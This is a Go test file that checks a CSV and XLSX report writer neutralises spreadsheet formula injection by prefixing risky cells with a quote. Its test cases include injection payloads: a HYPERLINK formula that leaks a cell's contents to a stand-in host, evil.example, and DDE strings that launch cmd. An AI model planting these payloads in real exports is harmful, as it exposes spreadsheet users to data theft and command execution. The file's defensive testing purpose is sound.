package render

import (
	"bytes"
	"encoding/csv"
	"errors"
	"strings"
	"testing"
	"unicode"

	"github.com/xuri/excelize/v2"
)

func TestCSVCell(t *testing.T) {
	tests := []struct {
		in, want string
	}{
		{"", ""},
		{"plain", "plain"},
		{"login", "login"},
		{"86.176.87.160", "86.176.87.160"},
		{"2018-06-23T15:18:09.000Z", "2018-06-23T15:18:09.000Z"},
		{"東京", "東京"},

		// formula starts get a leading quote
		{"=1+1", "'=1+1"},
		{`=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`, `'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"-", "'-"},
		{"-7730285591348820017#0", "'-7730285591348820017#0"},
		{"@SUM(1+1)*cmd|' /C calc'!A0.xlsx", "'@SUM(1+1)*cmd|' /C calc'!A0.xlsx"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"\x00=1", "'\x00=1"},
		{"=", "'="},

		// leading whitespace before a formula start: spreadsheets trim it
		{" =1", "' =1"},
		{"   +1", "'   +1"},
		{"\n=1", "'\n=1"},
		{"\r\n@x", "'\r\n@x"},
		{" \t-1", "' \t-1"},
		{"\v=1", "'\v=1"},
		{"\f=1", "'\f=1"},
		{"\u00a0=1", "'\u00a0=1"},
		{"\u3000=1", "'\u3000=1"},
		{"\u2003+1", "'\u2003+1"},
		{"\u200b=1", "'\u200b=1"},
		{"\ufeff=1", "'\ufeff=1"},
		{" \n \r\n\t =HYPERLINK(\"x\")", "' \n \r\n\t =HYPERLINK(\"x\")"},

		// full-width formula starts, alone or after whitespace
		{"＝1+1", "'＝1+1"},
		{"＋1", "'＋1"},
		{"－1", "'－1"},
		{"＠SUM(A1)", "'＠SUM(A1)"},
		{" ＝1", "' ＝1"},
		{"\u3000＠x", "'\u3000＠x"},
		{"\n－1", "'\n－1"},

		// not a formula start: the first non-blank character decides
		{"a=b", "a=b"},
		{"1+1", "1+1"},
		{"'=1", "'=1"},
		{" a=1", " a=1"},
		{"\nplain", "\nplain"},
		{"  ", "  "},
		{"\n", "\n"},
		{"x＝1", "x＝1"},
		{"東京=1", "東京=1"},
		{"＃1", "＃1"},
		{" 'x", " 'x"},
	}
	for _, tc := range tests {
		if got := CSVCell(tc.in); got != tc.want {
			t.Errorf("CSVCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestCSVWriterOutput(t *testing.T) {
	var buf bytes.Buffer
	w, err := NewCSV(&buf, []string{"Time", "Event ID", "=Label"})
	if err != nil {
		t.Fatal(err)
	}
	rows := [][]string{
		{"2018-06-23T15:18:09.000Z", "-6285966971996490902#0", "plain"},
		{"a,b", `say "hi"`, "line1\nline2"},
		{`=HYPERLINK("x")`, "+1", "@x"},
		{"\t=1+1", "", " lead"},
		{"a\xffb", "\xc3", "ok"},
		{"", "", ""},
	}
	for _, r := range rows {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	want := "Time,Event ID,'=Label\r\n" +
		"2018-06-23T15:18:09.000Z,'-6285966971996490902#0,plain\r\n" +
		`"a,b","say ""hi""","line1` + "\r\n" + `line2"` + "\r\n" +
		`"'=HYPERLINK(""x"")",'+1,'@x` + "\r\n" +
		"'\t=1+1,,\" lead\"\r\n" +
		"a\uFFFDb,\uFFFD,ok\r\n" +
		",,\r\n"
	if got := buf.String(); got != want {
		t.Errorf("CSV output:\n got %q\nwant %q", got, want)
	}
}

// csvExpect is what reading a written cell back must give: the neutralised
// value. csv.Writer with UseCRLF drops a carriage return inside a field and
// writes a newline as CRLF, which csv.Reader reads back as a newline, so
// carriage returns do not survive the round trip.
func csvExpect(s string) string {
	return strings.ReplaceAll(CSVCell(strings.ToValidUTF8(s, "\uFFFD")), "\r", "")
}

func checkCSVRoundTrip(t *testing.T, labels []string, rows [][]string) {
	t.Helper()
	var buf bytes.Buffer
	w, err := NewCSV(&buf, labels)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rows {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	if !strings.HasSuffix(out, "\r\n") {
		t.Fatalf("output does not end with CRLF: %q", out)
	}
	for i := 0; i < len(out); i++ {
		if out[i] == '\n' && (i == 0 || out[i-1] != '\r') {
			t.Fatalf("bare LF at byte %d of %q", i, out)
		}
	}
	got, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("encoding/csv cannot read the output %q: %v", out, err)
	}
	all := append([][]string{labels}, rows...)
	if len(got) != len(all) {
		t.Fatalf("read %d records, wrote %d: %q", len(got), len(all), out)
	}
	for i := range all {
		if len(got[i]) != len(all[i]) {
			t.Fatalf("record %d has %d fields, want %d: %q", i, len(got[i]), len(all[i]), got[i])
		}
		for j, cell := range all[i] {
			if want := csvExpect(cell); got[i][j] != want {
				t.Errorf("record %d field %d: read back %q, want %q (written %q)", i, j, got[i][j], want, cell)
			}
			if c := got[i][j]; readsAsFormula(c) {
				t.Errorf("record %d field %d read back as a formula: %q", i, j, c)
			}
		}
	}
}

func TestCSVWriterRoundTrip(t *testing.T) {
	checkCSVRoundTrip(t, []string{"Time", "User", "Note"}, [][]string{
		{"2018-06-23T15:18:09.000Z", "bob@example.com", "plain"},
		{"a,b", `"quoted"`, `",",`},
		{"line1\nline2", "\n", "a\r\nb"},
		{"\r=1", "carriage\rreturn", "\r"},
		{"=1+1", "+cmd|' /C calc'!A0", "-2+3"},
		{"@SUM(1+1)", "\t=1+1", "\x00x"},
		{"東京", "søren.dvořák@example.com", "\ufeffbom"},
		{"a\xffb", "\xed\xa0\x80", "\xc3"},
		{"", " ", "  padded  "},
		{`\.`, "#comment", "'already"},
		{" =1", "\n=1", "\r\n+1"},
		{"\u3000@x", "＝1", " ＋1"},
		{"－1", "＠x", "\ufeff=1"},
		{"\u00a0-1", "\u200b=1", " \t\n=HYPERLINK(\"x\")"},
	})
}

// readsAsFormula is the test's own statement of the rule: a cell that does
// not start with the neutralising quote is a formula when it starts with tab,
// CR or NUL, or when its first character after leading blanks (Unicode
// spaces, zero-width space, BOM) is = + - @ or ＝ ＋ － ＠.
func readsAsFormula(c string) bool {
	if c == "" || c[0] == '\'' {
		return false
	}
	if c[0] == '\t' || c[0] == '\r' || c[0] == 0 {
		return true
	}
	t := strings.TrimLeftFunc(c, func(r rune) bool { return unicode.IsSpace(r) || r == '\u200b' || r == '\ufeff' })
	for _, p := range []string{"=", "+", "-", "@", "＝", "＋", "－", "＠"} {
		if strings.HasPrefix(t, p) {
			return true
		}
	}
	return false
}

type errWriter struct{ err error }

func (e errWriter) Write([]byte) (int, error) { return 0, e.err }

func TestCSVWriterError(t *testing.T) {
	boom := errors.New("disk full")
	w, err := NewCSV(errWriter{boom}, []string{"a"})
	if err != nil {
		t.Fatal(err) // buffered: the header is not written yet
	}
	if err := w.Write([]string{"x"}); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); !errors.Is(err, boom) {
		t.Errorf("Flush = %v, want %v", err, boom)
	}
}

func FuzzCSVRoundTrip(f *testing.F) {
	f.Add("=1+1", "a,b", "line\nbreak")
	f.Add("\r=cmd", `"`, "\xff")
	f.Add("-1", "@x", "\t")
	f.Add("", "", "\r\n")
	f.Add(" =1", "\n＋1", "\u3000＠x")
	f.Fuzz(func(t *testing.T, a, b, c string) {
		checkCSVRoundTrip(t, []string{"A", "B", "C"}, [][]string{{a, b, c}, {c, a, b}})
	})
}

// TestSpreadsheetFormulaCells writes formula starts, with leading blanks and
// full-width signs, to CSV and XLSX and reads both back: no cell holds a
// formula and every one keeps the neutralising quote, so the text is also
// safe when the sheet is saved as CSV.
func TestSpreadsheetFormulaCells(t *testing.T) {
	cells := []string{"=1+1", " =1+1", "\n=1", "\r\n+1", "\t-1", "\u3000@x", "＝1+1", "＋1", "－1", "＠SUM(A1)", " ＝1", "\u00a0=1", "\ufeff=1"}
	meta := ReportMeta{Title: "t", Columns: []Column{{Field: "a", Label: "A"}}, Total: int64(len(cells))}
	var rows []Row
	for _, c := range cells {
		rows = append(rows, Row{Cells: []string{c}})
	}
	got, err := csv.NewReader(bytes.NewReader(write(t, "csv", meta, rows))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, c := range cells {
		if g := got[i+1][0]; !strings.HasPrefix(g, "'") || readsAsFormula(g) {
			t.Errorf("csv cell %q read back as %q", c, g)
		}
	}
	f, err := excelize.OpenReader(bytes.NewReader(write(t, "xlsx", meta, rows)))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for i, c := range cells {
		ref, _ := excelize.CoordinatesToCellName(1, i+2)
		if fo, _ := f.GetCellFormula("Report", ref); fo != "" {
			t.Errorf("xlsx %s (%q) has the formula %q", ref, c, fo)
		}
		if typ, _ := f.GetCellType("Report", ref); typ == excelize.CellTypeFormula {
			t.Errorf("xlsx %s (%q) is typed as a formula", ref, c)
		}
		g, _ := f.GetCellValue("Report", ref)
		// XLSX cells show invisible characters escaped (a BOM as the text
		// \ufeff), as the terminal does; such a cell no longer starts a formula.
		want := "'" + c
		if v := visibleControls(c); v != c {
			want = CSVCell(v)
		}
		if g != want || readsAsFormula(g) {
			t.Errorf("xlsx %s = %q, want %q", ref, g, want)
		}
	}
}
